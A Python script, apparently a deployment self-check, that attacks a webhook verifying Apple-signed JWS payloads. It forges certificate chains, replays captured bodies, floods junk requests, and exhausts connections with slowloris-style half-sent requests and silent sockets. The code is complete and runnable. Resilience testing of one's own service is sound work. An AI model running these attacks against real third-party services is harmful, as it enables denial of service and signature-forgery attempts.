"""The attacks of Deploy/checks/abuse on a webhook: abuse.py ATTACK --target URL --seconds N [--rate R] --body FILE --work DIRECTORY

Posts what a stranger can post and prints how often each answer came, as JSON. Needs nothing but Python and openssl.
"""
import argparse
import base64
import collections
import hashlib
import http.client
import json
import pathlib
import queue
import random
import socket
import subprocess
import threading
import time
import urllib.parse

parser = argparse.ArgumentParser()
parser.add_argument("attack", choices=["forged-leaf", "forged-chain", "half-sent", "repeated", "junk", "unread", "silent"])
parser.add_argument("--target", required=True)
parser.add_argument("--seconds", type=float, required=True)
parser.add_argument("--rate", type=float, default=0, help="requests per second; 0 is as fast as possible")
parser.add_argument("--connections", type=int, default=8)
parser.add_argument("--port", type=int, help="of the silent connections")
parser.add_argument("--bytes", type=int, default=110_000, help="of a half-sent body")
parser.add_argument("--body", type=pathlib.Path, required=True, help="a captured, genuine request body")
parser.add_argument("--work", type=pathlib.Path, required=True, help="directory for keys")
arguments = parser.parse_args()
target = urllib.parse.urlsplit(arguments.target)
deadline = time.monotonic() + arguments.seconds
captured = arguments.body.read_bytes()
answers = collections.Counter()
lock = threading.Lock()


def encoded(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def decoded(text):
    return base64.urlsafe_b64decode(text + b"=" * (-len(text) % 4))


def captured_jws():
    return json.loads(captured)["signedPayload"].encode()


def body(*segments):
    return b'{"signedPayload":"' + b".".join(segments) + b'"}'


def flipped(certificate, number):
    """The certificate with one bit of its signature, its last bytes, changed."""
    copy = bytearray(certificate)
    copy[-1 - number // 8 % 60] ^= 1 << number % 8
    return bytes(copy)


def headers(chain):
    header = {"alg": "ES256", "x5c": [base64.b64encode(certificate).decode() for certificate in chain]}
    return encoded(json.dumps(header, separators=(",", ":")).encode())


def forged_leaves():
    """Apple's chain with another leaf each time; the payload's signature is Apple's."""
    header, payload, signature = captured_jws().split(b".")
    chain = [base64.b64decode(text) for text in json.loads(decoded(header))["x5c"]]
    number = random.randrange(1 << 20)
    while True:
        number += 1
        leaf = flipped(flipped(chain[0], number), number * 7 + 3)
        yield body(headers([leaf] + chain[1:]), payload, signature)


def raw_signature(der):
    """r and s of 32 bytes each, from ASN.1."""
    length = der[3]
    r, s = der[4 : 4 + length], der[6 + length :]
    return r[-32:].rjust(32, b"\0") + s[-32:].rjust(32, b"\0")


def forged_chains(count=200):
    """Apple's intermediate and root behind leaves of one's own key, which did sign the payload. Made before the attack."""
    header, payload, _ = captured_jws().split(b".")
    chain = [base64.b64decode(text) for text in json.loads(decoded(header))["x5c"]]
    key, leaf = arguments.work / "forger.key", arguments.work / "forger.der"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-keyout", key,
         "-subj", "/CN=forger", "-outform", "DER", "-out", leaf, "-days", "30"], check=True, capture_output=True)
    own = leaf.read_bytes()
    bodies = []
    salt = random.randrange(1 << 20)
    for number in range(count):
        segment = headers([flipped(own, salt + number)] + chain[1:])
        signed = subprocess.run(["openssl", "dgst", "-sha256", "-sign", key], input=segment + b"." + payload, check=True,
                                capture_output=True).stdout
        bodies.append(body(segment, payload, encoded(raw_signature(signed))))
    while True:
        yield from bodies


def once(text):
    while True:
        yield text


def junk():
    while True:
        yield body(encoded(hashlib.sha256(str(random.random()).encode()).digest()[:6]), b"bbbb", b"cccc")


def count(answer):
    with lock:
        answers[answer] += 1


def post_all(bodies):
    """From so many connections as fast as they are answered, or at a rate."""
    waiting = queue.Queue(maxsize=1000)

    def client():
        connection = None
        while (text := waiting.get()) is not None:
            try:
                connection = connection or http.client.HTTPConnection(target.hostname, target.port, timeout=15)
                connection.request("POST", target.path, text, {"Content-Type": "application/json"})
                response = connection.getresponse()
                response.read()
                count(str(response.status))
            except OSError:
                count("no answer")
                connection = None
            except http.client.HTTPException:
                count("broken answer")
                connection = None

    threads = [threading.Thread(target=client) for _ in range(arguments.connections)]
    for thread in threads:
        thread.start()
    start, sent = time.monotonic(), 0
    while time.monotonic() < deadline:
        if arguments.rate:
            time.sleep(max(0, start + sent / arguments.rate - time.monotonic()))
        waiting.put(next(bodies))
        sent += 1
    for _ in threads:
        waiting.put(None)
    for thread in threads:
        thread.join()


def hold(count_of, first):
    """Opens connections, sends something on each, and then neither sends nor reads."""
    held = []
    while time.monotonic() < deadline:
        if len(held) < count_of:
            try:
                connection = socket.create_connection((target.hostname, target.port), timeout=5)
                connection.settimeout(2)
                connection.sendall(first)
                held.append(connection)
                count("held")
            except OSError:
                count("not held")
                time.sleep(0.05)
        else:
            time.sleep(0.2)
    for connection in held:
        connection.close()


def silent(port, count_of):
    """Opens connections to another port and says nothing on them; asks the webhook's port for a page meanwhile."""
    held = []

    def probe():
        while time.monotonic() < deadline:
            begun = time.monotonic()
            try:
                connection = http.client.HTTPConnection(target.hostname, target.port, timeout=30)
                connection.request("GET", "/nothing")
                connection.getresponse().read()
                connection.close()
                # Silence ends after ten seconds: who waits for a place waits about as long.
                count("webhook answered" if time.monotonic() - begun < 5 else "webhook waited")
            except OSError:
                count("webhook waited")
            time.sleep(0.05)

    prober = threading.Thread(target=probe)
    prober.start()
    while time.monotonic() < deadline and len(held) < count_of:
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex((target.hostname, port))
        held.append(connection)
        count("opened")
    prober.join()
    for connection in held:
        connection.close()


def head(length, more=""):
    return (f"POST {target.path} HTTP/1.1\r\nHost: {target.netloc}\r\nContent-Type: application/json\r\n{more}"
            f"Content-Length: {length}\r\n\r\n").encode()


if arguments.attack == "forged-leaf":
    post_all(forged_leaves())
elif arguments.attack == "forged-chain":
    chains = forged_chains()
    next(chains)
    deadline = time.monotonic() + arguments.seconds
    post_all(chains)
elif arguments.attack == "repeated":
    post_all(once(captured))
elif arguments.attack == "silent":
    deadline = time.monotonic() + max(arguments.seconds, 15)
    silent(arguments.port, 9000)
elif arguments.attack == "junk":
    post_all(junk())
elif arguments.attack == "half-sent":
    hold(600, head(arguments.bytes + 10_000) + b'{"signedPayload":"' + b"a" * arguments.bytes)
else:
    # Many requests on each connection, whose answers stay unread.
    hold(200, (head(len(captured)) + captured) * 20)
print(json.dumps(dict(sorted(answers.items()))))
